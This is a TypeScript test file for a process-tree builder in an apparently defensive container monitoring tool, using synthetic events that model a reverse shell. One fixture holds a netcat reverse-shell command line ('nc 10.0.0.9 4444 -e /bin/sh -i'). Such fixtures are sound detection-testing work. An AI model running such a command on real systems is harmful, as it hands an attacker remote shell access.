import { processTree, startsByKey } from './processTree';
import { ev } from './testEvents';

// A reverse shell in a container: init (entrypoint) -> sh -c -> /bin/sh -i, which spawns cat.
const cid = 'c'.repeat(64);
const init = ev('process.start', 1000, {
  id: 'init',
  pid: 1,
  processKey: 'b:100:1',
  executable: '/docker-entrypoint.sh',
  processEntry: 'container_init',
  containerId: cid,
});
const sh = ev('process.start', 2000, {
  id: 'sh',
  pid: 200,
  processKey: 'b:200:2',
  parentProcessKey: 'b:100:1',
  executable: '/bin/sh',
  commandLine: 'sh -c nc 10.0.0.9 4444 -e /bin/sh -i',
  containerId: cid,
});
const shell = ev('process.start', 3000, {
  id: 'shell',
  pid: 300,
  processKey: 'b:300:3',
  parentProcessKey: 'b:200:2',
  executable: '/bin/sh',
  commandLine: '/bin/sh -i',
  processAncestry: ['b:200:2', 'b:100:1'],
  containerId: cid,
});
const cat = ev('process.start', 4000, {
  id: 'cat',
  pid: 301,
  processKey: 'b:301:4',
  parentProcessKey: 'b:300:3',
  executable: '/bin/cat',
  containerId: cid,
});
const audit = ev('runtime.audit', 3001, {
  id: 'audit',
  attackType: 'reverse_shell',
  pid: 300,
  processKey: 'b:300:3',
  parentProcessKey: 'b:200:2',
  processAncestry: ['b:200:2', 'b:100:1'],
  containerId: cid,
});

describe('processTree', () => {
  const all = [init, sh, shell, cat, audit];

  it("walks an audit's ancestry up to the container's init and finds its children", () => {
    const t = processTree(audit, all);
    expect(t.self?.start?.id).toBe('shell');
    expect(t.ancestors.map((n) => n.start?.id)).toEqual(['sh', 'init']);
    expect(t.ancestors[t.ancestors.length - 1].entry).toBe('container_init');
    expect(t.children.map((n) => n.start?.id)).toEqual(['cat']);
  });

  it('walks parent keys when an event names no ancestry, and keeps unloaded ancestors as keys with pids', () => {
    const t = processTree(cat, [sh, shell, cat]);
    expect(t.ancestors.map((n) => n.key)).toEqual(['b:300:3', 'b:200:2', 'b:100:1']);
    expect(t.ancestors[2]).toMatchObject({ pid: 100, start: undefined });
  });

  it('has no tree for an event without a process', () => {
    expect(processTree(ev('model.state', 1), all)).toEqual({ ancestors: [], children: [] });
    expect(startsByKey(all).size).toBe(4);
  });
});
